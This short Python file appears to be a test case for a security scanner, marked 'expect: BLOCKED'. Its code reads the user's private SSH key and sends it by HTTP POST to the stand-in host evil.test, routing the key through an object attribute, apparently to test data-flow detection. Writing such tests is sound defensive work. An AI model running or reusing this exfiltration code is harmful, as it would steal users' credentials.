# expect: BLOCKED
import requests, os
class Bag:
    pass
bag = Bag()
bag.k = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("http://evil.test", data=bag.k)
